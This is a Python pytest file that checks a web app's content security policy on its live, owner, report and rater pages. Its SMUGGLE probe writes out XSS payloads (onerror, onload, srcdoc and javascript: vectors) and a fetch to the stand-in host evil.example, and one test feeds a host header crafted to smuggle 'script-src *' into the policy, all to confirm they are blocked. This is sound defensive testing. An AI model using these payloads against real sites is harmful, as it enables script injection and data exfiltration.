"""Pages under their content security policy: they work, and injected code does not run."""

import asyncio
import json
import re
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from ui.conftest import Server
from ui.live_page import LivePage
from ui.owner_site import Site
from ui.rate_page import RatePage

from studio.ui.assets import Pages, add_nonce, page_policy

SMUGGLE = """async () => {
  window.ran = [];
  const put = (html) => { const at = document.createElement('div'); at.innerHTML = html; document.body.append(at); };
  put('<img src="/nothing.png" onerror="window.ran.push(1)">');
  put('<svg onload="window.ran.push(2)"></svg>');
  put('<iframe srcdoc="<script>parent.ran.push(3)</script>"></iframe>');
  const script = document.createElement('script');
  script.textContent = 'window.ran.push(4)';
  document.body.append(script);
  put('<a id="smuggled" href="javascript:window.ran.push(5)">x</a>');
  document.getElementById('smuggled').click();
  const sent = await fetch('https://evil.example/x', { mode: 'no-cors' }).then(() => 'sent', () => 'blocked');
  await new Promise((done) => setTimeout(done, 500));
  return [window.ran, sent];
}"""
LISTEN = (
    "document.addEventListener('securitypolicyviolation', (e) => (window.violations ??= []).push(e.violatedDirective))"
)


@pytest.fixture
def page(chromium: Any) -> Iterator[Any]:
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    found = context.new_page()
    found.add_init_script(LISTEN)
    found.said = []
    found.on("console", lambda m: found.said.append(m.text) if m.type in ("error", "warning") else None)
    found.on("pageerror", lambda error: found.said.append(str(error)))
    yield found
    context.close()


def clean(page: Any) -> None:
    """Nothing was blocked or reported."""
    assert page.evaluate("window.violations ?? []") == []
    assert [line for line in page.said if "Content Security" in line or "Refused" in line] == []


def test_live_page(page: Any, server: Server) -> None:
    live = LivePage(page, server.url)
    live.open()
    live.type("one two three ")
    live.finish(spoken=1)
    assert len(live.rendered())
    page.locator(".theme").click()
    clean(page)
    assert live.foreign == []
    assert page.evaluate(SMUGGLE) == [[], "blocked"]


@pytest.mark.parametrize("path", ["campaigns", "results"])
def test_owner_pages(page: Any, site: Site, path: str) -> None:
    site.sign_in(page.context)
    page.goto(site.url + path)
    page.wait_for_selector(".campaign" if path == "campaigns" else ".owner-plot svg.main-svg")
    page.wait_for_timeout(500)
    clean(page)
    assert page.evaluate(SMUGGLE) == [[], "blocked"]


def test_report_saved_by_the_results_page(page: Any, site: Site, tmp_path: Path) -> None:
    """It is opened from disk, without response headers, so it contains its own policy."""
    site.sign_in(page.context)
    page.goto(site.url + "results?campaign=kestrel")
    button = page.get_by_role("button", name="HTML report")
    button.wait_for()
    with page.expect_download() as download:
        button.click()
    clean(page)
    file = tmp_path / "report.html"
    download.value.save_as(file)
    assert '<meta http-equiv="Content-Security-Policy"' in file.read_text(encoding="utf-8")
    page.goto(file.as_uri())
    page.wait_for_selector("main h1, main h2")
    page.wait_for_timeout(300)
    clean(page)
    assert page.evaluate(SMUGGLE) == [[], "blocked"]


def test_rater_page(page: Any, rate: Callable[..., RatePage]) -> None:
    rating = rate("mos", who="policy")
    rating.page.add_init_script(LISTEN)
    rating.page.reload()
    rating.begin()
    rating.page.get_by_role("button", name=re.compile("Play|Listen|A")).first.click()
    rating.page.wait_for_timeout(1000)
    assert rating.page.evaluate("window.violations ?? []") == []
    assert rating.page.evaluate(SMUGGLE) == [[], "blocked"]


def test_no_other_site_receives_the_url(page: Any, site: Site) -> None:
    """A rater's link and the link with the key are secret."""
    heard: list[str | None] = []

    def other(route: Any) -> None:
        heard.append(route.request.headers.get("referer"))
        route.fulfill(body="x")

    page.route("https://other.example/**", other)
    facts = json.loads((site.folder / "facts.json").read_text(encoding="utf-8"))
    page.goto(site.url + facts["links"]["rater"].lstrip("/"))
    page.evaluate("location.href = 'https://other.example/'")
    page.wait_for_url("https://other.example/")
    assert heard == [None]


def test_nonce_is_new_per_response_and_on_every_script(site: Site) -> None:
    numbers = set()
    for _ in range(3):
        html = site.get("campaigns")
        marked = re.findall(r'<script nonce="([\w-]{22})"', html)
        outside = re.sub(r"<script.*?</script>", "", html, flags=re.DOTALL)
        assert len(set(marked)) == 1 and "<script" not in outside
        assert len(marked) == len(re.findall(r"<script[^>]*>.*?</script>", html, re.DOTALL))
        numbers |= set(marked)
    assert len(numbers) == 3


def test_plain_page_has_no_inline_script_and_needs_no_exception(site: Site) -> None:
    with urllib.request.urlopen(site.url, timeout=30) as answer:
        policy, html = answer.headers["content-security-policy"], answer.read().decode()
    assert "script-src 'self';" in policy
    assert all('src="' in tag or 'type="application/json"' in tag for tag in re.findall(r"<script[^>]*>", html))


def test_only_tags_get_the_nonce() -> None:
    html = b'<script>const a = "<script src=x>"</script><SCRIPT src="a.js"></SCRIPT><scripty></scripty>'
    found = add_nonce(html, "NUMBER").decode()
    assert found.count('nonce="NUMBER"') == 2 and 'const a = "<script src=x>"' in found and "<scripty>" in found


def test_unknown_host_is_not_in_the_policy() -> None:
    scope = {"type": "http", "method": "GET", "headers": [(b"host", b"a.example;script-src *")]}
    assert "a.example" not in page_policy(scope, "'self'")


def test_page_is_rendered_once_and_stamped_for_each_response() -> None:
    rendered: list[str] = []

    async def gradio(scope: Any, receive: Any, send: Any) -> None:
        rendered.append(scope["path"])
        host = dict(scope["headers"])[b"host"].decode()
        body = f'<script>root = "http://{host}/x"</script>'.encode()
        headers = [(b"content-type", b"text/html"), (b"content-length", str(len(body)).encode())]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": body})

    async def response(pages: Pages, host: bytes, scheme: str = "http") -> tuple[dict[bytes, bytes], bytes]:
        sent: list[Any] = []

        async def send(message: Any) -> None:
            sent.append(message)

        scope = {"type": "http", "method": "GET", "path": "/rate", "scheme": scheme, "headers": [(b"host", host)]}
        await pages(scope, None, send)  # type: ignore[arg-type]
        return dict(sent[0]["headers"]), sent[1]["body"]

    async def ask() -> None:
        pages = Pages(gradio, ["/rate"])
        answers = await asyncio.gather(*(response(pages, b"a.example") for _ in range(20)))
        answers.append(await response(pages, b"b.example:8443", "https"))
        nonces = {re.fullmatch(rb'<script nonce="([^"]+)">.*', body)[1] for _, body in answers}  # type: ignore[index]
        assert len(nonces) == 21 and rendered == ["/rate"]
        assert b'"http://a.example/x"' in answers[0][1] and b'"https://b.example:8443/x"' in answers[-1][1]
        for headers, body in answers:
            assert headers[b"content-length"] == str(len(body)).encode()
            assert re.search(rb'nonce="([^"]+)"', body)[1] in headers[b"content-security-policy"]  # type: ignore[index]

    asyncio.run(ask())
